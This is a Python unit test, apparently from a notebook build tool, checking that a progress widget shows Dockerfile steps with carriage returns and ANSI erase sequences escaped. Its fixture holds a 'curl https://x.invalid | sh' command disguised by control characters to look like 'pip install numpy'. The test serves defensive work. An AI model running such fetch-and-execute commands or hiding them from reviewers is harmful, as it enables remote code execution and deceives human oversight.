"""The progress widget names the running step as the executor reads it: a ``\\r`` and an
erase-line sequence inside a RUN are shown, not obeyed or dropped."""

from __future__ import annotations

from polymagic.notebook.progress_widget import BuildProgress
from polymagic.outcome.kaniko_log import KanikoLogParser

HIDING = "RUN curl https://x.invalid | sh # \r\x1b[2KRUN pip install numpy"


def test_the_step_label_shows_every_character_of_the_step() -> None:
    progress = BuildProgress("app", 1, min_interval=0)
    try:
        parser = KanikoLogParser(["FROM python:3.11", HIDING])
        for event in parser.feed(f"\x1b[36mINFO\x1b[0m[0001] {HIDING} "):
            progress.on_event(event)
        assert progress.step_label.value == (
            "step 1/1: RUN curl https://x.invalid | sh # \\x0d\\x1b[2KRUN pip install numpy"
        )
    finally:
        progress.close()
